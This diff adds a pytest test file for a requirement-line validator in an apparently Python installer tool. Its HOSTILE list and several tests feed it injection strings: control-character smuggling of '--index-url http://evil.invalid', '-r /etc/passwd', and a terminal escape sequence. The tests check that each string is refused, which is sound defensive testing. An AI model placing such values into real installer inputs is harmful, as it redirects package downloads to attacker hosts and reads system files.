@@ -1,0 +1,153 @@
+"""``lines``: the one validation every line handed to an installer goes through, fed hostile strings."""
+
+from __future__ import annotations
+
+import stat
+from typing import TYPE_CHECKING
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from virtualenv_ready.errors import ReadyError
+from virtualenv_ready.lines import carry, check_line, editable_line, requirement_line, write_private
+from virtualenv_ready.reqfile import read_tree
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+HOSTILE = [
+    "alpha\n--index-url http://evil.invalid/simple",
+    "alpha\r--find-links http://evil.invalid",
+    "alpha\x0b--extra-index-url http://evil.invalid",
+    "alpha\x85-i http://evil.invalid",
+    "alpha\u2028-f http://evil.invalid",
+    "alpha --index-url http://evil.invalid",
+    "--index-url=http://evil.invalid",
+    "-r /etc/passwd",
+    "alpha # comment",
+    "# only a comment",
+    "alpha \\",
+    "alpha @ http://host.invalid/${HOME}/x.whl",
+    "alpha\x1b]52;c;aGk=\x07",
+    "alpha\x00",
+    "alpha\t-i http://evil.invalid",
+    "",
+    "   ",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_strings_are_refused_with_where_they_came_from(text: str) -> None:
+    with pytest.raises(ReadyError, match=r"^pylock\.toml: packages\[3\]: ") as info:
+        requirement_line(text, "pylock.toml: packages[3]")
+    assert "\n" not in str(info.value)
+    assert "\x1b" not in str(info.value)
+    with pytest.raises(ReadyError):
+        check_line(text)
+
+
+@given(st.text(alphabet=st.characters(categories=["Cc", "Zl", "Zp"]), min_size=1), st.text(max_size=5))
+def test_any_control_character_or_line_break_is_refused(bad: str, tail: str) -> None:
+    with pytest.raises(ReadyError):
+        check_line(f"alpha{bad}{tail}")
+
+
+@given(
+    st.sampled_from(["alpha", "beta>=1", "gamma[x]==2; python_version > '3'"]),
+    st.lists(st.from_regex(r"[0-9a-f]{8}", fullmatch=True), max_size=3),
+)
+def test_parsed_requirements_are_re_serialised_with_their_hashes(text: str, hashes: list[str]) -> None:
+    line = requirement_line(text, "here", [f"sha256:{h}" for h in hashes])
+    assert line.split(" --hash=")[1:] == [f"sha256:{h}" for h in hashes]
+    assert check_line(line) == line
+
+
+def test_a_hash_value_must_be_a_hash() -> None:
+    with pytest.raises(ReadyError, match="here"):
+        requirement_line("alpha", "here", ["sha256:00 --index-url http://evil.invalid"])
+
+
+def test_paths_are_made_absolute_against_their_base(tmp_path: Path) -> None:
+    assert requirement_line("./w/a-1-py3-none-any.whl", "here", base=tmp_path) == f"{tmp_path}/w/a-1-py3-none-any.whl"
+    assert editable_line("./lib[x]", "here", tmp_path) == f"{tmp_path}/lib[x]"
+    assert editable_line("git+https://h.invalid/r.git#egg=r", "here", tmp_path) == "git+https://h.invalid/r.git#egg=r"
+
+
+def test_written_files_are_private(tmp_path: Path) -> None:
+    folder = tmp_path / "run"
+    folder.mkdir(mode=0o700)
+    path = write_private(folder / "step0.txt", ["alpha", "beta>=1 --hash=sha256:00ff"])
+    assert path.read_text() == "alpha\nbeta>=1 --hash=sha256:00ff\n"
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    write_private(path, ["gamma"])  # a retry writes a fresh file
+    assert path.read_text() == "gamma\n"
+    with pytest.raises(ReadyError):
+        write_private(folder / "bad.txt", ["alpha\n-i http://evil.invalid"])
+
+
+def test_an_open_folder_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "open"
+    folder.mkdir()
+    folder.chmod(0o755)
+    with pytest.raises(ReadyError, match="a temporary folder others can open"):
+        write_private(folder / "step0.txt", ["alpha"])
+
+
+def test_options_a_file_carries_go_on_the_command_line_others_are_refused(tmp_path: Path) -> None:
+    (tmp_path / "links").mkdir()
+    path = tmp_path / "r.txt"
+    path.write_text("alpha --hash=sha256:aa\n--index-url=https://idx.invalid/simple\n-f links\n--no-index\n-e ./lib\n")
+    found = carry(read_tree([path]).entries, tmp_path)
+    assert found.lines == ["alpha --hash=sha256:aa"]
+    assert found.editables == [f"{tmp_path}/lib"]
+    assert found.options == [
+        "--index-url",
+        "https://idx.invalid/simple",
+        "--find-links",
+        f"{tmp_path}/links",
+        "--no-index",
+    ]
+    for refused in (
+        "--pre",
+        "--trusted-host h.invalid",
+        "--prefer-binary",
+        "alpha --global-option=x",
+        "-e ./lib --hash=sha256:aa",
+    ):
+        path.write_text(f"{refused}\n")
+        with pytest.raises(ReadyError, match=r"r\.txt:1: .* cannot be handed on exactly"):
+            carry(read_tree([path]).entries, tmp_path)
+
+
+def test_constraint_files_become_constraint_lines(tmp_path: Path) -> None:
+    (tmp_path / "c2.txt").write_text("beta<2\n")
+    path = tmp_path / "c.txt"
+    path.write_text("alpha<3 # pinned\n-c c2.txt\n")
+    found = carry(read_tree([path], constraint=True).entries, tmp_path)
+    assert (found.lines, found.constraints) == ([], ["alpha<3", "beta<2"])
+    path.write_text("-r c2.txt\n")
+    with pytest.raises(ReadyError, match="-r inside a constraints file"):
+        read_tree([path], constraint=True)
+
+
+def test_a_plugins_requirement_files_are_read_into_lines(tmp_path: Path) -> None:
+    from virtualenv_ready.lines import flattened
+    from virtualenv_ready.model import Source
+
+    (tmp_path / "base.txt").write_text("alpha  # pinned below\n\nbeta\\\n>=1\n", encoding="utf-8")
+    (tmp_path / "req.txt").write_text("-r base.txt\nzeta\n-c c.txt\n", encoding="utf-8")
+    (tmp_path / "c.txt").write_text("omega<2\n", encoding="utf-8")
+    source = flattened(Source("plugin", lines=("delta",), requirement_files=(tmp_path / "req.txt",)))
+    assert (source.lines, source.constraints, source.requirement_files) == (
+        ("delta", "alpha", "beta>=1", "zeta"),
+        ("omega<2",),
+        (),
+    )
+    assert {path.name for path in source.inputs} == {"req.txt", "base.txt", "c.txt"}
+
+
+def test_a_named_relative_path_becomes_an_absolute_file_url(tmp_path: Path) -> None:
+    wheel = tmp_path / "w" / "a-1-py3-none-any.whl"
+    assert requirement_line("a @ ./w/a-1-py3-none-any.whl", "here", base=tmp_path) == f"a @ {wheel.as_uri()}"
+    assert requirement_line("a @ https://h.invalid/a.whl", "here", base=tmp_path) == "a @ https://h.invalid/a.whl"
